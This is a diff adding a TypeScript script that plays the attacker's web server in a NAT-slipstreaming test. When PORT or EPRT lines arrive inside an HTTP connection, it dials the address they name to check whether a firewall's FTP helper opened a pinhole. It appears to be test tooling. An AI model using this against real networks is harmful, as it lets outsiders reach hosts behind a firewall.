@@ -1,0 +1,50 @@
+/**
+ * The attacker's web server of a NAT-slipstreaming attempt, run inside the server node: it
+ * answers an HTTP request, and when a PORT or EPRT line arrives inside that web connection it
+ * dials the address the line names, as the real attack does once the firewall's FTP helper,
+ * fooled into parsing web traffic, has opened a pinhole. Prints one JSON line per dial.
+ * Dependency-free, like the probe agent, so it runs in any node with Node.js.
+ */
+import { connect, createServer } from 'node:net';
+
+const port = Number(process.argv[2]);
+
+/** `PORT h1,h2,h3,h4,p1,p2` or `EPRT |1|a.b.c.d|port|` / `EPRT |2|v6|port|`. */
+function target(line: string): { host: string; port: number } | undefined {
+  const port = /^PORT (\d+),(\d+),(\d+),(\d+),(\d+),(\d+)$/.exec(line);
+  if (port) {
+    const [h1, h2, h3, h4, p1, p2] = port.slice(1).map(Number) as [number, number, number, number, number, number];
+    return { host: `${h1}.${h2}.${h3}.${h4}`, port: p1 * 256 + p2 };
+  }
+  const eprt = /^EPRT (.)[12]\1([^|]+)\1(\d+)\1$/.exec(line);
+  return eprt ? { host: eprt[2]!, port: Number(eprt[3]) } : undefined;
+}
+
+createServer((web) => {
+  let buffer = '';
+  let answered = false;
+  web.setEncoding('utf8');
+  web.on('error', () => undefined);
+  web.on('data', (chunk: string) => {
+    buffer += chunk;
+    if (!answered && buffer.includes('\r\n\r\n')) {
+      answered = true;
+      buffer = buffer.slice(buffer.indexOf('\r\n\r\n') + 4);
+      web.write('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n');
+    }
+    let nl: number;
+    while (answered && (nl = buffer.indexOf('\n')) >= 0) {
+      const line = buffer.slice(0, nl).replace(/\r$/, '');
+      buffer = buffer.slice(nl + 1);
+      const to = target(line);
+      if (!to) continue;
+      const dial = connect(to);
+      const report = (result: string) => process.stdout.write(JSON.stringify({ dialled: to, result }) + '\n');
+      dial.once('connect', () => {
+        report('connected');
+        dial.end('slipstream\n');
+      });
+      dial.once('error', (e: NodeJS.ErrnoException) => report(e.code ?? e.message));
+    }
+  });
+}).listen(port, () => process.stdout.write(JSON.stringify({ ready: true }) + '\n'));
